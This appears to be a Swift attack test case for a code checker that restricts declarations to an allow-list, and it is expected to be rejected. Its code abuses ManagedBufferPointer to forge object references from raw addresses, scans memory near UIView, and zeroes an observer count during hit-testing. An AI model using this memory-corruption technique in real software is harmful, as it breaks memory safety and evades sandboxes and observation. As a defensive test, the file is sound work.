// Attack: takes an object of its own for a buffer whose header is an object, and silences the model in memory.
// Exercise: 3
// Expect: notAccepted|didNotCompile
// Held by: an allow-list of declarations
import struct Foundation.Date
import UIKit

final class Words {
    var first = 0, second = 0, third = 0
}

final class Place {
    var address: Int
    init(address: Int) { self.address = address }
}

extension Words {
    static func at(_ address: Int) -> Words {
        ManagedBufferPointer<Words, Int>(unsafeBufferObject: Place(address: address - 16)).header
    }
}

class BaseView: UIView {
    nonisolated(unsafe) static var ear: Int?

    /// Where the model keeps whether somebody hears it: a small number before an object.
    static func findEar() {
        let start = Int(bitPattern: ObjectIdentifier(UIView.self))
        ear = stride(from: start + 0x1D800, to: start + 0x1F800, by: 8).first { address in
            let words = Words.at(address)
            return (1..<1024).contains(words.first) && words.second > 1 << 40 && words.third > 1 << 40
        }
    }

    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if BaseView.ear == nil { BaseView.findEar() }
        guard let ear = BaseView.ear else { return super.hitTest(point, with: event) }
        let words = Words.at(ear)
        let heard = words.first
        words.first = 0
        defer { words.first = heard }
        return super.hitTest(point, with: event)
    }
}
